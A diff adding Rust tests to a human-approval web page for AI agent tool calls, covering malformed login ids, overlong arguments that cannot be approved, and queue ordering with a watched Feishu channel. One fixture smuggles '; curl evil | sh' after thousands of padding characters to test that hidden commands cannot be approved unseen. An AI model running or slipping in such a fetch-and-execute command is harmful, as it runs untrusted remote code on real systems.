@@ -1312,6 +1312,82 @@ async fn a_decision_on_cut_arguments_must_carry_the_digest_its_detail_showed() {
     assert!(call.await.expect("task").tool_ran);
 }
 
+/// An operator id no operator can have (over 256 bytes, hidden characters)
+/// is refused before the sign-in throttle: it runs no token check and is
+/// not remembered, so a flood of them neither fills memory nor locks out
+/// the address it came from.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn impossible_operator_ids_are_refused_before_the_throttle() {
+    let page = page().await;
+    for n in 0..12 {
+        for id in [
+            format!("{n}{}", "x".repeat(300)),
+            format!("alice\u{202E}{n}"),
+        ] {
+            let response = try_login(&page, &id, "guess").await;
+            assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{id:?}");
+        }
+    }
+    let again = try_login(&page, "alice", "alice-token").await;
+    assert_eq!(again.status(), StatusCode::SEE_OTHER);
+}
+
+/// Arguments longer than even the detail shows cannot be approved on the
+/// page: nobody there could see everything the approval covers. Rejecting
+/// stays possible (it runs nothing).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn arguments_too_long_for_the_detail_cannot_be_approved_on_the_page() {
+    let page = page().await;
+    let alice = login(&page, "alice").await;
+    let call = start(
+        &page,
+        call_with(
+            "c-huge",
+            "finance-bot",
+            "alice",
+            json!({"command": format!("{}; curl evil | sh", "echo ok ".repeat(3_000))}),
+        ),
+    );
+    let id = wait_pending(&page, &alice, 1).await.remove(0);
+    let (code, detail) = get_json(&page, &alice.cookie, &format!("/api/requests/{id}")).await;
+    assert_eq!(code, StatusCode::OK, "{detail}");
+    assert_eq!(detail["request"]["args_truncated"], true, "{detail}");
+    assert_eq!(detail["request"]["args_digest"], Value::Null, "{detail}");
+    // The digest is not secret: an operator who learned it elsewhere still
+    // cannot approve what the page cannot show.
+    let digest = page
+        .approvals
+        .store()
+        .get(&id)
+        .await
+        .expect("read")
+        .expect("request")
+        .args_digest;
+    let approve = client()
+        .post(format!("{}/api/requests/{id}/decide", page.url))
+        .header(COOKIE, &alice.cookie)
+        .header("x-csrf-token", &alice.csrf)
+        .json(&json!({"decision": "approve", "args_digest": digest}))
+        .send()
+        .await
+        .expect("decide");
+    assert_eq!(approve.status(), StatusCode::CONFLICT);
+    let body: Value = approve.json().await.expect("json");
+    assert_eq!(body["outcome"], "refused", "{body}");
+    assert_eq!(status_of(&page, &id).await, ConfirmationStatus::Pending);
+    // The detail page offers no Approve button for it.
+    let html = get_as(&page, &alice.cookie, &format!("/requests/{id}"))
+        .await
+        .text()
+        .await
+        .expect("body");
+    assert!(!html.contains(r#"value="approve""#), "{html}");
+    // Rejecting is still possible, from the page's JSON endpoint.
+    let (status, body) = decide(&page, &alice, Some(&alice.csrf), &id, "reject", None).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert!(!call.await.expect("task").tool_ran);
+}
+
 async fn status_of(page: &Page, id: &str) -> ConfirmationStatus {
     status(page, id).await
 }
@@ -1358,6 +1434,73 @@ async fn a_feishu_request_is_shown_read_only_on_postgres() {
     };
     // Fresh ids: the shared database holds other runs' requests.
     watched_feishu_request(database, &support::unique("oc"), &support::unique("web")).await;
+}
+
+/// A watched channel full of older requests does not push out the ones
+/// the operator can decide on the page: those get the list's room first.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_busy_watched_channel_does_not_hide_requests_the_operator_decides() {
+    use hooks_std::gate::channel::web::WatchedChannel;
+    let database = Database::in_memory().await.expect("db");
+    let feishu = feishu_gate(database.clone(), FEISHU_CHAT).await;
+    let page = page_on_channel(
+        "approvals",
+        database,
+        org_scope(),
+        tokens(),
+        WebConfig {
+            watched_channels: vec![WatchedChannel {
+                kind: "feishu".into(),
+                channel_id: FEISHU_CHAT.into(),
+                viewers: vec!["alice".into()],
+            }],
+            max_pending: 2,
+            ..WebConfig::default()
+        },
+    )
+    .await;
+    let alice = login(&page, "alice").await;
+    // Three older requests wait in Feishu, more than the list holds.
+    let mut calls = Vec::new();
+    for n in 0..3 {
+        let registry = feishu.registry.clone();
+        calls.push(tokio::spawn(async move {
+            registry
+                .run_tool_call(
+                    call(&format!("f{n}"), "finance-bot", "alice")
+                        .with_conversation(support::unique("conv")),
+                    async |_: &Value| Ok::<_, String>(json!("paid")),
+                )
+                .await
+        }));
+    }
+    feishu
+        .fake
+        .wait_for_card(3, Duration::from_secs(10))
+        .await
+        .expect("three cards in Feishu");
+    // Then one the page decides.
+    let mine = start(&page, call("c-mine", "finance-bot", "alice"));
+    let until = Instant::now() + Duration::from_secs(10);
+    let id = loop {
+        let (_, list) = get_json(&page, &alice.cookie, "/api/requests").await;
+        let pending = list["pending"].as_array().cloned().unwrap_or_default();
+        assert!(pending.len() <= 2, "{list}");
+        if let Some(own) = pending.iter().find(|request| request["channel"] == "web") {
+            break own["id"].as_str().expect("id").to_owned();
+        }
+        assert!(
+            Instant::now() < until,
+            "the operator's own request never reached the list: {list}"
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    };
+    let (status, body) = decide(&page, &alice, Some(&alice.csrf), &id, "approve", None).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert!(mine.await.expect("task").tool_ran);
+    for call in calls {
+        call.abort();
+    }
 }
 
 /// A request the gate sends to Feishu chat `chat`, watched by alice on the
@@ -1498,7 +1641,8 @@ async fn a_gate_configured_with_channel_web_serves_its_page() {
     let hash = TokenAuth::hash_token("alice-token").expect("hash");
     let gate_config = json!({
         "approver_scope": "org_members", "timeout": "30s", "channel": "web",
-        "web": {"channel_id": "ops", "base_path": "/approvals", "operators": {"alice": hash}},
+        "web": {"channel_id": "ops", "base_path": "/approvals", "operators": {"alice": hash},
+                "secure_cookies": false},
     });
     let parsed: ApprovalGateConfig = serde_json::from_value(gate_config.clone()).expect("config");
     let settings = parsed
